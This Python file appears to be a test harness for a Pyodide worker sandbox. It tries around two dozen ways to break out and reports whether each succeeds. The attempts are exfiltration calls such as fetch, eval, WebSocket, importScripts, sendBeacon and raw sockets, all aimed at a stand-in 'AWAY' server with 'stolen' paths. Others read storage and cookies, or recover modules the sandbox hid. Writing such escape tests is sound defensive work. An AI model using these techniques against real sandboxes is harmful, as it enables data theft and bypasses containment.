"""Everything a program might try in order to leave its worker. Each attempt says how it ended.

`target.py` beside it names two servers: HOME, where the page comes from, and AWAY, a stranger's. In a plain Pyodide
worker most attempts succeed; the test makes sure of that, too.
"""

import gc
import importlib
import sys
import time

from target import AWAY, HOME

# The hidden packages are only out of sight: without our finder, Pyodide's import hook brings them back.
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "_Hider"]
proxies = next(finder.jsproxies for finder in sys.meta_path if hasattr(finder, "jsproxies"))
js, py = proxies["js"], proxies["pyodide_js"]
machine = proxies.get("_faultline_machine", js.Object.new())
attempts = []


def attempt(function):
    attempts.append(function)
    return function


def module(name):
    """The module that Pyodide works with, though it is no longer in `sys.modules`; else a fresh one."""
    hidden = (each for each in gc.get_objects() if type(each) is type(sys) and each.__name__ == name)
    return next(hidden, None) or importlib.import_module(name)


def script(text):
    return js.URL.createObjectURL(js.Blob.new(js.Array.of(text)))


for place, server in (("home", HOME), ("away", AWAY)):
    for name, action in {
        "fetch": lambda url: js.fetch(url),
        "fetch_post": lambda url: js.Reflect.apply(js.fetch, js, js.Array.of(url, js.JSON.parse('{"method":"POST"}'))),
        "eval": lambda url: js.eval(f"fetch('{url}')"),
        "function": lambda url: js.Function.new(f"return fetch('{url}')")(),
        "constructor": lambda url: machine.constructor.constructor(f"return fetch('{url}')")(),
        "generator": lambda url: js.Object.getPrototypeOf(js.eval("(function*(){})")).constructor(f"fetch('{url}')"),
        "timeout_text": lambda url: js.setTimeout(f"fetch('{url}')", 1),
        "import": lambda url: js.eval(f"import('{url}')"),
        "import_scripts": lambda url: js.importScripts(url),
        "blob_script": lambda url: js.importScripts(script(f"fetch('{url}')")),
        "blob_worker": lambda url: js.Worker.new(script(f"fetch('{url}')")),
        "far_worker": lambda url: js.Worker.new(url),
        "shared_worker": lambda url: js.SharedWorker.new(url),
        "event_source": lambda url: js.EventSource.new(url),
        "web_socket": lambda url: js.WebSocket.new(url.replace("http", "ws")),
        "font": lambda url: js.FontFace.new("stolen", f"url({url})").load(),
        "run_js": lambda url: module("pyodide.code").run_js(f"fetch('{url}')"),
        "open_url": lambda url: module("pyodide.http").open_url(url),
        "py_fetch": lambda url: module("pyodide.http").pyfetch(url).send(None),
        "urlopen": lambda url: module("urllib.request").urlopen(url, timeout=1),
        "package": lambda url: py.loadPackage(f"{url}-1.0-py3-none-any.whl"),
        "later": lambda url: js.fetchLater(url),
    }.items():

        def run(action=action, url=f"{server}/stolen-{name}"):
            return action(url)

        run.__name__ = f"{name}_{place}"
        attempts.append(run)


@attempt
def sync_request():
    request = js.XMLHttpRequest.new()
    request.open("GET", f"{AWAY}/stolen-xhr", False)
    request.send()
    return request.responseText


@attempt
def plain_socket():
    connection = module("socket").create_connection(("127.0.0.1", int(AWAY.rpartition(":")[2])), 1)
    connection.send(b"GET /stolen-socket HTTP/1.1\r\n\r\n")


@attempt
def inherited():
    """The same names further up the prototype chain."""
    owner, found = js, []
    while owner is not None:
        names = {"fetch", "importScripts", "indexedDB", "caches", "postMessage", "close", "navigator", "Worker"}
        for each in js.Object.getOwnPropertyNames(owner):
            descriptor = js.Object.getOwnPropertyDescriptor(owner, each)
            if each in names and (getattr(descriptor, "get", None) or getattr(descriptor, "value", None)):
                found.append(each)
        owner = js.Object.getPrototypeOf(owner)
    return sorted(found) or None


@attempt
def hoarded():
    """Objects of Pyodide's own that might still hold one of them."""
    found = []
    for holder in (py, py._api, py._module, machine, js.globalThis):
        for each in ("fetch", "XMLHttpRequest", "postMessage", "port", "WebSocket", "importScripts", "navigator"):
            if getattr(holder, each, None) is not None:
                found.append(each)
    return sorted(set(found)) or None


@attempt
def database():
    return js.indexedDB.open("secrets")


@attempt
def databases():
    return js.IDBFactory.prototype.open("secrets")


@attempt
def cache():
    return js.caches.open("secrets")


@attempt
def files():
    return js.navigator.storage.getDirectory()


@attempt
def local_storage():
    return js.localStorage.getItem("secret")


@attempt
def cookies():
    return js.cookieStore.set("stolen", "yes")


@attempt
def document():
    return js.document.cookie


@attempt
def parent():
    return js.parent.postMessage("stolen", "*")


@attempt
def broadcast():
    return js.BroadcastChannel.new("faultline-test").postMessage("stolen")


@attempt
def message():
    return js.postMessage("stolen")


@attempt
def beacon():
    return js.navigator.sendBeacon(f"{AWAY}/stolen-beacon", "x")


for each in attempts:
    try:
        outcome = each()
        print(each.__name__, "returned", "nothing" if outcome is None else outcome)
    except BaseException as error:
        print(each.__name__, "failed", type(error).__name__)
# What is on its way gets the time to arrive.
time.sleep(1)
